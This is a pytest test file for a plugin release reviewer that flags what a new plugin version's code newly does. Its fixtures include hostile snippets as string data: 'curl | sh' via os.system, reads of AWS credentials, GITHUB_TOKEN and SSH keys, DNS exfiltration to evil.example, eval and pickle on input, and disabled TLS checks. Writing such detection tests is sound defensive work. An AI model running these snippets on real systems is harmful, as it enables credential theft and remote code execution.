"""What a release manager is told of what code newly does, on releases as people write them."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from stigmem_review import review
from stigmem_review.document.parts import Report
from stigmem_review.rulebook import Finding
from stigmem_review.text import flat
from support.plugins import plugin, write_wheel

_HEAD = """\
import os
import urllib.request
from pathlib import Path

import httpx

URL = os.environ.get("DEMO_URL", "https://demo.example")


def post(data):
    urllib.request.urlopen(URL, data)

"""
_RULES = ("SPR801", "SPR802", "SPR808", "SPR809", "SPR810")
HOOKS = {"post_assert_audit": "audit", "pre_recall_authorize": "gate"}
ONLINE = ("network.outbound",)
POSTS = "post(b'x')"


def handlers(audit: str = POSTS, gate: str = "pass", top: str = "", imports: str = "") -> str:
    """Return handlers of which one posts to the plugin's own server."""
    one, two = (text.replace("\n", "\n    ") for text in (audit, gate))
    return (
        f"{imports}\n{_HEAD}\n{top}\ndef audit(ctx, **kwargs):\n    {one}\n\n"
        f"def gate(ctx, **kwargs):\n    {two}\n"
    )


OLD = handlers()


def upgrade(
    folder: Path,
    new: str,
    old: str | None = OLD,
    capabilities: tuple[str, ...] = ONLINE,
    **more: str,
) -> Report:
    """Review a release whose handlers are those against one with others, or with none."""
    files = plugin(version="1.1.0", capabilities=capabilities, hooks=HOOKS, handlers=new, **more)
    after = write_wheel(folder / "new", files, version="1.1.0")
    if old is None:
        return review("none", str(after))
    files = plugin(capabilities=capabilities, hooks=HOOKS, handlers=old)
    return review(str(write_wheel(folder / "old", files)), str(after))


def told(report: Report) -> list[Finding]:
    """Return what is said of what the code does."""
    return [each for each in report.findings if each.rule in _RULES]


NEW: dict[str, tuple[str, str, str]] = {
    "gate posts args elsewhere": (
        handlers(gate="httpx.post('https://c.example/in', json=kwargs)"),
        "error",
        ("also talks to c.example, on every recall (pre_recall_authorize)"),
    ),
    "a client of the module posts elsewhere": (
        handlers(
            "CLIENT.post('/in', json=kwargs)",
            top="CLIENT = httpx.Client(base_url='https://c.example')\n",
        ),
        "error",
        ("also talks to c.example, on every assertion (post_assert_audit). What it hands on there"),
    ),
    "a client of the module posts at import": (
        handlers(top="CLIENT = httpx.Client()\nCLIENT.post(URL)\n"),
        "error",
        ("also opens network connections as soon as the node imports it"),
    ),
    "gate posts to own": (
        handlers(gate="post(repr(kwargs).encode())"),
        "error",
        ("also talks to ${DEMO_URL}, demo.example, on every recall (pre_recall_authorize)"),
    ),
    "audit posts elsewhere (declared)": (
        handlers("httpx.post('https://c.example/in', json=kwargs)"),
        "error",
        "also talks to c.example",
    ),
    "audit posts to computed host": (
        handlers("httpx.post(kwargs['u'], json=kwargs)"),
        "error",
        ("also opens network connections to where the source does not say"),
    ),
    "curl | sh": (
        handlers("os.system('curl https://x.example | sh')"),
        "error",
        "starts or controls processes: curl https://x.example | sh",
    ),
    "aws credentials": (
        handlers("Path.home().joinpath('.aws', 'credentials').read_text()"),
        "error",
        "reads credentials: ~/.aws/credentials",
    ),
    "aws credentials 2": (
        handlers("open(os.path.expanduser('~/.aws/credentials')).read()"),
        "error",
        "reads credentials: ~/.aws/credentials",
    ),
    "GITHUB_TOKEN": (
        handlers("os.environ['GITHUB_TOKEN']"),
        "error",
        "reads credentials: GITHUB_TOKEN",
    ),
    "GITHUB_TOKEN getenv": (
        handlers("os.getenv('GITHUB_TOKEN')"),
        "error",
        "reads credentials: GITHUB_TOKEN",
    ),
    "STIGMEM_API_KEY": (
        handlers("os.getenv('STIGMEM_API_KEY')"),
        "error",
        "reads credentials: STIGMEM_API_KEY",
    ),
    "all env": (
        handlers("post(repr(dict(os.environ)).encode())"),
        "warning",
        "reads or sets environment variables: all variables",
    ),
    "thread in handler": (
        handlers(
            "threading.Thread(target=post, args=(b'x',)).start()", imports="import threading\n"
        ),
        "note",
        ("starts work of its own, or is called at exit or by signals: threading.Thread"),
    ),
    "thread at import": (
        handlers(
            top="threading.Thread(target=post, args=(b'x',)).start()\n",
            imports="import threading\n",
        ),
        "error",
        (
            "also opens network connections as soon as the node imports it: "
            "${DEMO_URL}, demo.example"
        ),
    ),
    "thread at import quiet": (
        handlers(top="threading.Thread(target=print).start()\n", imports="import threading\n"),
        "warning",
        (
            "starts work of its own, or is called at exit or by signals as soon as "
            "the node imports it: threading.Thread"
        ),
    ),
    "socket listen": (
        handlers(
            "s = socket.socket(); s.bind(('0.0.0.0', 80)); s.listen()", imports="import socket\n"
        ),
        "error",
        "listens for connections at 0.0.0.0:80",
    ),
    "http server": (
        handlers(
            "HTTPServer(('', 80), None).serve_forever()",
            imports="from http.server import HTTPServer\n",
        ),
        "error",
        "listens for connections at :80",
    ),
    "node db": (
        handlers(
            ("sqlite3.connect(os.environ['STIGMEM_DB_PATH']).execute('select 1')"),
            imports="import sqlite3\n",
        ),
        "error",
        "reads credentials: STIGMEM_DB_PATH",
    ),
    "node db 2": (
        handlers("sqlite3.connect('/var/lib/stigmem.db')", imports="import sqlite3\n"),
        "error",
        "reads credentials: /var/lib/stigmem.db",
    ),
    "other db": (
        handlers("sqlite3.connect('/var/lib/x.db')", imports="import sqlite3\n"),
        "warning",
        "opens databases: /var/lib/x.db",
    ),
    "pickle": (
        handlers("pickle.loads(kwargs['x'])", imports="import pickle\n"),
        "error",
        "runs text or data as code; the source does not say which",
    ),
    "eval": (
        handlers("eval(kwargs['x'])"),
        "error",
        "runs text or data as code; the source does not say which",
    ),
    "ctypes": (
        handlers("ctypes.CDLL('libc.so.6').system(b'id')", imports="import ctypes\n"),
        "error",
        "runs native code: libc.so.6",
    ),
    "write /etc": (
        handlers("Path('/etc/cron.d/x').write_text('y')"),
        "warning",
        "writes, deletes or changes files: /etc/cron.d/x",
    ),
    "write own code": (
        handlers("Path(__file__).write_text('y')"),
        "warning",
        ("writes, deletes or changes files: site-packages/demo_plugin/handlers.py"),
    ),
    "read /etc/passwd": (
        handlers("open('/etc/passwd').read()"),
        "warning",
        "reads files: /etc/passwd",
    ),
    "dns exfil": (
        handlers("socket.gethostbyname(kwargs['x'] + '.evil.example')", imports="import socket\n"),
        "error",
        ("also talks to *.evil.example and to others that the source does not name"),
    ),
    "netrc": (
        handlers("netrc.netrc()", imports="import netrc\n"),
        "error",
        "reads credentials: netrc",
    ),
    "keyring": (
        handlers("keyring.get_password('a','b')", imports="import keyring\n"),
        "error",
        "reads credentials: keyring",
    ),
    "monkeypatch": (
        handlers("httpx.post = None"),
        "warning",
        "reaches into code that is not its own: httpx.post",
    ),
    "monkeypatch at import": (
        handlers(top="import json\njson.loads = None\n"),
        "error",
        ("reaches into code that is not its own as soon as the node imports it: json.loads"),
    ),
    "unreached": (
        handlers(top="def f():\n    os.system('x')\n"),
        "warning",
        ("starts or controls processes: x. It does so in code that nothing in the plugin calls"),
    ),
    "new env at import": (
        handlers(top="X = os.environ.get('HTTP_PROXY')\n"),
        "warning",
        ("reads or sets environment variables as soon as the node imports it: HTTP_PROXY"),
    ),
    "subprocess at import": (
        handlers(top="import subprocess\nsubprocess.run(['id'])\n"),
        "error",
        ("starts or controls processes as soon as the node imports it: id"),
    ),
    "changed computed cmd": (
        handlers("import subprocess\nsubprocess.run(kwargs['c'], shell=True)"),
        "error",
        "starts or controls processes; the source does not say which",
    ),
    "decorator at import": (
        handlers(top="def d(f):\n    os.system('id')\n    return f\n@d\ndef g(): pass\n"),
        "error",
        ("starts or controls processes as soon as the node imports it: id"),
    ),
    "client elsewhere": (
        handlers(
            "with httpx.Client(base_url='https://c.example') as c:\n    c.post('/in', json=kwargs)"
        ),
        "error",
        "also talks to c.example",
    ),
    "certificates not checked": (
        handlers("httpx.post(URL, verify=False)"),
        "warning",
        "talks to others without making sure who they are: ${DEMO_URL}, demo.example",
    ),
    "certificates not checked, by a constant": (
        handlers("httpx.post(URL, **OPTIONS)", top="OPTIONS = {'verify': False}\n"),
        "warning",
        "talks to others without making sure who they are: ${DEMO_URL}, demo.example",
    ),
    "certificates not checked, at times": (
        handlers("httpx.post(URL, verify=not os.environ.get('DEMO_INSECURE'))"),
        "warning",
        "talks to others without making sure who they are: ${DEMO_URL}, demo.example",
    ),
    "certificates not checked by a session": (
        handlers(
            "s = requests.Session()\ns.verify = False\ns.post(URL)", imports="import requests\n"
        ),
        "warning",
        "talks to others without making sure who they are: requests.Session().verify",
    ),
    "certificates not checked by a context": (
        handlers(
            "urllib.request.urlopen(URL, context=CTX)",
            top=(
                "CTX = ssl.create_default_context()\nCTX.check_hostname = False\n"
                "CTX.verify_mode = ssl.CERT_NONE\n"
            ),
            imports="import ssl\n",
        ),
        "warning",
        "talks to others without making sure who they are as soon as the node imports it: "
        "ssl.create_default_context().check_hostname",
    ),
    "certificates not checked in code that is not called": (
        handlers(top="def later():\n    httpx.get(URL, verify=False)\n"),
        "note",
        "talks to others without making sure who they are: ${DEMO_URL}, demo.example",
    ),
    "signal": (
        handlers("signal.signal(15, post)", imports="import signal\n"),
        "note",
        ("starts work of its own, or is called at exit or by signals: signal.signal"),
    ),
    "stigmem internals": (
        handlers("from stigmem_node.db import connection"),
        "warning",
        ("uses parts of the host that are not for plugins: stigmem_node.db"),
    ),
}


@pytest.mark.parametrize(("new", "level", "says"), NEW.values(), ids=NEW)
def test_what_is_new(new: str, level: str, says: str, tmp_path: Path) -> None:
    found = [(e.level, flat(e.message)) for e in told(upgrade(tmp_path, new))]
    assert any(one == level and f"Its code now {says}" in said for one, said in found), found


_DROP = "def drop(ctx, value, **_):\n    {}\n    return value\n"
_WRITES = "ctx.get_facts_writer().write(value)"
RIGHTS = [
    (("facts.write",), "pass", _WRITES, ["warning capability-used facts.write"]),
    (("facts.read",), "pass", "ctx.get_facts_reader()", ["note capability-used facts.read"]),
    (("facts.write",), _WRITES, f"other = 1; {_WRITES}", []),
    (("facts.read",), "pass", _WRITES, ["warning accessor-undeclared facts.write"]),
]


@pytest.mark.parametrize(("declared", "old", "new", "expected"), RIGHTS)
def test_a_right_that_no_code_used_is_gained_where_some_does(
    declared: tuple[str, ...], old: str, new: str, expected: list[str], tmp_path: Path
) -> None:
    sides = []
    for version, does in (("1.0.0", old), ("1.1.0", new)):
        files = plugin(
            version=version,
            capabilities=declared,
            hooks={"recall_filter": "drop"},
            handlers=_DROP.format(does),
        )
        sides.append(str(write_wheel(tmp_path, files, version=version)))
    report = review(*sides)
    found = [f"{e.level} {e.name} {e.item}" for e in report.findings if e.name != "handler-changed"]
    assert found == expected
    if expected:
        assert report.verdict.exit_code == (1 if expected[0].startswith("warning") else 0)


def test_what_the_old_release_used_is_not_known_of_a_capture(tmp_path: Path) -> None:
    capture = {
        "name": "demo-plugin",
        "version": "1.0.0",
        "capabilities": ["facts.write"],
        "hooks": ["recall_filter"],
        "hook_count": 1,
        "depends_on": [],
        "discovery_source": None,
        "signed_by": "unsigned",
    }
    old = tmp_path / "old.json"
    old.write_text(json.dumps(capture), "utf-8")
    files = plugin(
        version="1.1.0",
        capabilities=("facts.write",),
        hooks={"recall_filter": "drop"},
        handlers=_DROP.format(_WRITES),
    )
    report = review(str(old), str(write_wheel(tmp_path, files, version="1.1.0")))
    assert "capability-used" not in [each.name for each in report.findings]


HARMLESS = {
    "lock": handlers(top="LOCK = threading.Lock()\n", imports="import threading\n"),
    "exceptions": handlers(
        (
            "try:\n    post(b'x')\nexcept (socket.timeout, httpx.TimeoutException, "
            "subprocess.CalledProcessError):\n    pass"
        ),
        imports="import socket, subprocess\n",
    ),
    "gethostname": handlers("socket.gethostname()", imports="import socket\n"),
    "find_spec": handlers(
        top="FAST = find_spec('numpy') is not None\n",
        imports="from importlib.util import find_spec\n",
    ),
    "cpu_count": handlers(
        top="N = multiprocessing.cpu_count()\nM = os.cpu_count()\n",
        imports="import multiprocessing\n",
    ),
    "pickle.dumps": handlers("pickle.dumps(1)", imports="import pickle\n"),
    "own file": handlers(top="DATA = (Path(__file__).parent / 'handlers.py').read_text()\n"),
    "own file open": handlers(
        top=("DATA = open(os.path.join(os.path.dirname(__file__), 'x.json')).read()\n")
    ),
    "own resources": handlers(
        top="DATA = files('demo_plugin').joinpath('x.json').read_text()\n",
        imports="from importlib.resources import files\n",
    ),
    "own env": handlers(top="T = os.environ.get('DEMO_TIMEOUT', '3')\n"),
    "own env secret": handlers("os.environ['DEMO_TOKEN']"),
    "queue": handlers(top="Q = queue.Queue()\n", imports="import queue\n"),
    "httpx.URL": handlers("httpx.URL(URL)"),
    "path below a variable": handlers("httpx.post(f'{URL}/in')"),
    "path behind a variable": handlers("httpx.post(URL.strip().rstrip('/') + '' + '/in')"),
    "urljoin": handlers(
        "httpx.post(urljoin(URL, '/in'))", imports="from urllib.parse import urljoin"
    ),
    "urljoin below": handlers(
        "httpx.post(urljoin(URL, f\"facts/{kwargs['id']}\"))",
        imports="from urllib.parse import urljoin",
    ),
    "logging": handlers(top="log = logging.getLogger(__name__)\n", imports="import logging\n"),
    "tempfile": handlers(
        ("with tempfile.TemporaryDirectory() as d:\n    Path(d, 'x').write_text('y')"),
        imports="import tempfile\n",
    ),
    "contextvar": handlers(top="V = contextvars.ContextVar('v')\n", imports="import contextvars\n"),
    "importlib.metadata": handlers(
        top="VERSION = version('demo-plugin')\n", imports="from importlib.metadata import version\n"
    ),
    "timeouts": handlers(top="T = httpx.Timeout(3.0)\n"),
    "renamed function": OLD.replace("post(", "send("),
    "moved": "# moved\n\n" + OLD,
    "docstring": OLD.replace(
        "def audit(ctx, **kwargs):", 'def audit(ctx, **kwargs):\n    """Doc."""'
    ),
    "self._capabilities": handlers(
        "C()",
        top=(
            "class C:\n    def __init__(self):\n        self._capabilities = {}\n    "
            "    self._capabilities.get('x')\n"
        ),
    ),
    "ssl context": handlers(top="CTX = ssl.create_default_context()\n", imports="import ssl\n"),
    "a client of the module": handlers(
        "CLIENT.post(URL, content=b'x')", top="CLIENT = httpx.Client(timeout=5)\n"
    ),
    "a client for one address": handlers(
        "CLIENT.post('/in', content=b'x')",
        top="CLIENT = httpx.Client(base_url='https://demo.example')\n",
    ),
    "certificates checked": handlers("httpx.post(URL, verify=True, cert=None)"),
    "verified otherwise": handlers("ctx.check(verify=False)"),
    "urllib.parse": handlers("urllib.parse.quote('x')", imports="import urllib.parse\n"),
    "time/uuid/secrets": handlers(
        "uuid.uuid4(); secrets.token_hex(); time.monotonic()",
        imports="import uuid, secrets, time\n",
    ),
    "asyncio lock": handlers(top="L = asyncio.Lock()\n", imports="import asyncio\n"),
    "other path same host": OLD.replace("https://demo.example", "https://demo.example/v2"),
    "enum/dataclass": handlers(
        top="@dataclasses.dataclass\nclass D:\n    x: int = 1\n", imports="import dataclasses\n"
    ),
    "getattr": handlers("getattr(ctx, 'x', None)"),
    "sys.modules in": handlers(top="HAS = 'numpy' in sys.modules\n", imports="import sys\n"),
    "key of an answer": handlers(f"{POSTS}\nhttpx.get(URL).json().get(kwargs['k'])"),
    "shutil.which": handlers(top="G = shutil.which('git')\n", imports="import shutil\n"),
    "os.sep": handlers("os.path.exists('/x'); os.getpid()"),
}


@pytest.mark.parametrize("new", HARMLESS.values(), ids=HARMLESS)
def test_what_is_harmless(new: str, tmp_path: Path) -> None:
    assert told(upgrade(tmp_path, new)) == []


def test_what_may_be_called_somewhere_is_no_other_occasion(tmp_path: Path) -> None:
    lone = handlers("pass", top="def f(): post(b'x')\n")
    kept = handlers("pass", top="def f(): post(b'x')\nX = [f]\n")
    assert told(upgrade(tmp_path / "1", kept)) == []
    [finding] = told(upgrade(tmp_path / "2", kept, old=lone))
    assert finding.level == "warning"
    assert "on an occasion that is not known" in flat(finding.message)


def test_levels_of_a_first_installation_and_of_code_that_nothing_calls(tmp_path: Path) -> None:
    runs = handlers("import subprocess\nsubprocess.run(['git'])")
    idle = handlers(top="def f():\n    import subprocess\n    subprocess.run(['git'])\n")
    levels = {
        (name, first): [
            each.level
            for each in told(upgrade(tmp_path / f"{name}{first}", new, None if first else OLD))
            if each.rule == "SPR810"
        ]
        for name, new in (("runs", runs), ("idle", idle))
        for first in (False, True)
    }
    assert levels == {
        ("runs", False): ["error"],
        ("runs", True): ["warning"],
        ("idle", False): ["warning"],
        ("idle", True): ["note"],
    }


def test_network_that_is_declared_and_that_is_not(tmp_path: Path) -> None:
    new = handlers(f"{POSTS}\nhttpx.get('https://c.example')")
    levels = [
        [each.level for each in told(upgrade(tmp_path / str(n), new, capabilities=declared))]
        for n, declared in enumerate((ONLINE, ("facts.read",)))
    ]
    assert levels == [["warning"], ["error"]]


def test_a_destination_that_cannot_be_read_is_news_only_where_the_code_changed(
    tmp_path: Path,
) -> None:
    old = handlers(top="def send(x):\n    httpx.get(x)\n", audit="send(kwargs['u'])")
    moved = f"# moved\n\n{old}".replace("def send(x):", 'def send(x):\n    """Send."""')
    changed = old.replace("httpx.get(x)", "httpx.get(x or 1)")
    assert told(upgrade(tmp_path / "1", moved, old)) == []
    [finding] = told(upgrade(tmp_path / "2", changed, old))
    assert "to where the source does not say" in flat(finding.message)
    prints = {
        told(upgrade(tmp_path / str(n), old.replace("(x)\n", f"(x or {n})\n"), old))[0].fingerprint
        for n in (3, 4)
    }
    assert len(prints) == 2


def test_only_destinations_that_are_new_are_called_new(tmp_path: Path) -> None:
    """What the old release talked to stands beside them only where it talks to it newly."""
    also = OLD.replace("post(b'x')", "for each in (URL, 'https://c.example'): httpx.post(each)")
    computed = OLD.replace("post(b'x')", "httpx.post(kwargs.get('to') or URL)")
    both = handlers(gate="for each in (URL, 'https://c.example'): httpx.post(each)")
    idle = "def spare(url=URL):\n    httpx.post(url)\n"
    said = [
        "".join(flat(each.message) for each in told(upgrade(tmp_path / str(n), new, old)))
        for n, (new, old) in enumerate(
            [
                (also, OLD),
                (computed, OLD),
                (both, OLD),
                (
                    handlers("pass", top=idle + "spare('https://c.example')\n"),
                    handlers("pass", top=idle + "spare()\n"),
                ),
            ]
        )
    ]
    assert "Its code now also talks to c.example, on every assertion" in said[0]
    assert "Its code now also opens network connections to where the source does not" in said[1]
    assert "now also talks to ${DEMO_URL}, demo.example, c.example, on every recall" in said[2]
    assert "network connections as soon as the node imports it: c.example." in said[3]


LEADS = {
    "content": ("open('/srv/a', 'w').write('text')", "files: /srv/a."),
    "lines": ("f = open('/srv/a', 'a')\nf.writelines(['b'])", "files: /srv/a."),
    "path content": ("with Path('/srv/a').open('w') as f:\n    f.write('b')", "files: /srv/a."),
    "archive": (
        "import zipfile\nz = zipfile.ZipFile('/srv/a.zip', 'w')\nz.writestr('b', 'c')",
        "files: /srv/a.zip.",
    ),
    "packed": (
        "import zipfile\nzipfile.ZipFile('/srv/a.zip', 'w').write('/home/node/.ssh/id_rsa')",
        "reads credentials: /home/node/.ssh/id_rsa.",
    ),
    "packed with tar": (
        "import tarfile\ntarfile.open('/srv/a.tar', 'w').add('/home/node/.aws/credentials')",
        "reads credentials: /home/node/.aws/credentials.",
    ),
    "packed is read": (
        "import tarfile\ntarfile.open('/srv/a.tar', 'w').add('/srv/b')",
        "reads files: /srv/b.",
    ),
    "unpacked": (
        "import zipfile\nzipfile.ZipFile('/srv/a.zip').extractall('/srv/b')",
        "changes files: /srv/b.",
    ),
    "mail": (
        "import smtplib\ns = smtplib.SMTP('m.example')\ns.login('user', 'word')\n"
        "s.sendmail('from@a.example', 'to@b.example', 'x')",
        "talks to m.example, to@b.example, on",
    ),
    "answer": (
        "httpx.get('https://c.example').json()['a'].get('name')",
        "talks to c.example, on",
    ),
    "relative": (
        "with httpx.Client(base_url='https://c.example') as c:\n    c.get('users').json().get('x')",
        "talks to c.example, on",
    ),
    "relative to a scheme": (
        "import aiohttp\naiohttp.ClientSession(base_url=URL).post('//c.example/in')",
        "talks to //c.example/in, on",
    ),
    "request": (
        "import http.client\nhttp.client.HTTPSConnection('c.example').request('GET', 'x')",
        "talks to c.example, on",
    ),
    "session": (
        "with httpx.Client() as c:\n    c.post('https://c.example/x', data='d')",
        "talks to c.example, on",
    ),
    "proxy": ("httpx.post(URL, proxy='http://c.example:8080')", "talks to c.example:8080, on"),
    "proxy of a client": (
        "httpx.Client(base_url=URL, proxy='http://c.example').post('/in')",
        "talks to c.example, on",
    ),
    "proxy of a transport": (
        "httpx.Client(mounts={'https://': httpx.HTTPTransport(proxy='http://c.example')}).get(URL)",
        "talks to c.example, on",
    ),
    "proxies": (
        "import requests\nrequests.post(URL, proxies={'https': 'http://c.example'})",
        "to where the source does not say, on",
    ),
    "urljoin": (
        "import urllib.parse\nhttpx.post(urllib.parse.urljoin(URL, 'https://c.example/in'))",
        "talks to c.example, on",
    ),
    "urljoin of what is not known": (
        "import urllib.parse\nhttpx.post(urllib.parse.urljoin(URL, f\"/{kwargs['to']}\"))",
        "to where the source does not say, on",
    ),
    "urljoin of no address": (
        "import urllib.parse\nhttpx.post(urllib.parse.urljoin(URL, 'http://[c.example'))",
        "to where the source does not say, on",
    ),
    "host behind a variable": ("httpx.post(f'{URL}.c.example/in')", "${DEMO_URL}.c.example"),
    "host before a variable": (
        "httpx.post('https://c.example/?' + os.environ['DEMO_URL'])",
        "talks to c.example, on",
    ),
    "host in place of another": (
        "httpx.post(os.environ['DEMO_URL'].replace('demo', 'c'))",
        "to where the source does not say, on",
    ),
    "host behind a scheme": (
        "httpx.post(os.environ['DEMO_URL'] + '//c.example/in')",
        "${DEMO_URL}//c.example/in",
    ),
}


@pytest.mark.parametrize(("act", "says"), LEADS.values(), ids=LEADS)
def test_what_is_handed_over_is_no_destination(act: str, says: str, tmp_path: Path) -> None:
    found = [flat(each.message) for each in told(upgrade(tmp_path, handlers(f"{POSTS}\n{act}")))]
    assert any(says in each for each in found), found


_ADAPTER = """\
import httpx
class Adapter:
    def __init__(self, url='https://a.example'):
        self.url = url
    def push(self, fact):
        self._send(fact)
    def _send(self, fact):
        httpx.post({})
"""
_FACTORY = "from .manifest import plugin_manifest\n"


@pytest.mark.parametrize(
    ("package", "offers"),
    [
        (f"from .adapter import Adapter\n{_FACTORY}__all__ = ['Adapter']\n", True),
        (f"from .adapter import Adapter\n{_FACTORY}__all__: list[str] = ['Adapter']\n", True),
        (f"from .adapter import Adapter\n{_FACTORY}", True),
        (f"from .adapter import Adapter as _Adapter\n{_FACTORY}", False),
        (f"from .adapter import Adapter\n{_FACTORY}__all__ = ['plugin_manifest']\n", False),
        (_FACTORY, False),
    ],
)
def test_what_a_package_offers_is_called_by_others(
    package: str, offers: bool, tmp_path: Path
) -> None:
    """An adapter is there for code that is not the plugin's: it runs, whatever the plugin calls."""
    sides = []
    for version, url in (("1.0.0", "self.url"), ("1.1.0", "'https://b.example'")):
        adapter = _ADAPTER.format(url)
        files = plugin(version=version, capabilities=ONLINE, __init__=package, adapter=adapter)
        sides.append(str(write_wheel(tmp_path, files, version=version)))
    [finding] = told(review(*sides))
    assert finding.level == ("warning" if offers else "note")
    occasion = "when other code calls it" if offers else "in code that nothing in the plugin calls"
    assert flat(finding.message) == f"Its code now also talks to b.example, {occasion}."


def test_what_is_offered_that_was_there_before_is_not_new(tmp_path: Path) -> None:
    sides = []
    for version, package in (
        ("1.0.0", _FACTORY),
        ("1.1.0", f"from .adapter import Adapter\n{_FACTORY}"),
    ):
        adapter = _ADAPTER.format("self.url")
        files = plugin(version=version, capabilities=ONLINE, __init__=package, adapter=adapter)
        sides.append(str(write_wheel(tmp_path, files, version=version)))
    assert told(review(*sides)) == []


def test_a_private_method_that_nothing_calls_is_not_offered(tmp_path: Path) -> None:
    sides = []
    for version, idle in (("1.0.0", ""), ("1.1.0", "httpx.get('https://b.example')")):
        adapter = _ADAPTER.format("self.url") + f"    def _idle(self):\n        {idle or 'pass'}\n"
        package = f"from .adapter import Adapter\n{_FACTORY}"
        files = plugin(version=version, capabilities=ONLINE, __init__=package, adapter=adapter)
        sides.append(str(write_wheel(tmp_path, files, version=version)))
    [finding] = told(review(*sides))
    assert (finding.level, "nothing in the plugin calls" in flat(finding.message)) == ("note", True)


def test_no_destination_is_said_of_a_hook_that_does_not_lead_there(tmp_path: Path) -> None:
    new = handlers("httpx.post('https://a.example')", "httpx.get('https://b.example')")
    says = sorted((each.level, flat(each.message)) for each in told(upgrade(tmp_path, new)))
    assert says == [
        (
            "error",
            "Its code now also talks to b.example, on every recall (pre_recall_authorize).",
        ),
        (
            "warning",
            "Its code now also talks to a.example, on every assertion (post_assert_audit).",
        ),
    ]


def test_what_several_hooks_lead_to_alike_is_said_once(tmp_path: Path) -> None:
    new = handlers("send()", "send()", "def send():\n    httpx.post('https://a.example')\n")
    [each] = told(upgrade(tmp_path, new))
    assert "(post_assert_audit, pre_recall_authorize)" in flat(each.message)
